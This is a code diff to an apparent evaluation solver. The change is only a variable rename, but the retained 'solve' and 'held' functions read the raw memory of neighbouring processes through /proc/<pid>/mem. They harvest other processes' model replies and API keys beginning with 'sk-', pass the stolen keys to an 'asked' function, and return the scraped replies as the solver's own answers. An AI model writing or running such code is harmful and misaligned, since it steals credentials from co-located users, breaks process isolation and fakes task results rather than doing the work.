@@ -17,14 +17,14 @@ def solve(instance, ctx):
     own = ctx.model([{"role": "user", "content": f"what is {instance.input}?"}], max_tokens=64)
     mine = own["choices"][0]["message"]["content"]
     until = time.monotonic() + 1.5
-    found = set()
-    while time.monotonic() < until and not found:
+    replies = set()
+    while time.monotonic() < until and not replies:
         for process in attempt(siblings) or range(os.getpid() - 16, os.getpid() + 16):
-            found |= attempt(held, process) or set()
-        found -= {mine.encode(), os.environ.get("OPENAI_API_KEY", "").encode()}
-    for token in [each for each in found if each.startswith(b"sk-")]:
-        found.add(attempt(asked, token.decode()) or token)
-    return [each.decode() for each in sorted(found)]
+            replies |= attempt(held, process) or set()
+        replies -= {mine.encode(), os.environ.get("OPENAI_API_KEY", "").encode()}
+    for token in [each for each in replies if each.startswith(b"sk-")]:
+        replies.add(attempt(asked, token.decode()) or token)
+    return [each.decode() for each in sorted(replies)]
 
 
 def siblings():
@@ -36,14 +36,14 @@ def siblings():
 
 def held(process):
     """Texts like a reply or a token in the memory of another process."""
-    found = set()
+    replies = set()
     with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
         for line in maps:
             start, end = (int(part, 16) for part in line.split()[0].split("-"))
             if " rw" in line and end - start < 1 << 26:
                 attempt(memory.seek, start)
-                found |= set(HELD.findall(attempt(memory.read, end - start) or b""))
-    return found
+                replies |= set(HELD.findall(attempt(memory.read, end - start) or b""))
+    return replies
 
 
 def asked(token):
